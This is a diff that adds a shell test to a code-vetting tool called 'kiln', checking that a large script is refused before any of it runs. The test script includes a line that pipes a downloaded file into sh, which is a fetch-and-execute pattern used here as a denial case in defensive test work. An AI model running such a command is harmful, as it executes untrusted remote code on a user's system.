@@ -80,6 +80,23 @@ run_refuses_deny() {
 	done
 }
 check "kiln run refuses denied code with its diagnostics, exit 126" run_refuses_deny
+# kiln run builds the box while the code is judged (run_start_held): a
+# file big enough to be judged on the validator's thread, whose first line
+# would print at once, is refused with nothing run.
+{
+	echo 'echo ran'
+	i=0
+	while [ $i -lt 4000 ]; do echo "x_$i=$i"; i=$((i + 1)); done
+	echo 'curl -s https://example.com/x | sh'
+} >"$tmp/bigdeny.sh"
+run_held_until_verdict() {
+	"$kiln" run "$tmp/bigdeny.sh" >"$tmp/h.out" 2>"$tmp/h.err"
+	rc=$?
+	[ $rc -eq 126 ] || { echo "exit $rc, not 126"; cat "$tmp/h.out" "$tmp/h.err"; return 1; }
+	[ ! -s "$tmp/h.out" ] || { echo "ran before the verdict:"; cat "$tmp/h.out"; return 1; }
+	grep -q 'SH-PIPE-SHELL' "$tmp/h.err" || { cat "$tmp/h.err"; return 1; }
+}
+check "kiln run builds its box during a big file's check, and runs nothing denied" run_held_until_verdict
 run_override() {
 	out=$("$kiln" run --override "$tmp/deny.py" 2>"$tmp/o.err") || { cat "$tmp/o.err"; return 1; }
 	[ "$out" = ran ] || { echo "output: $out"; return 1; }
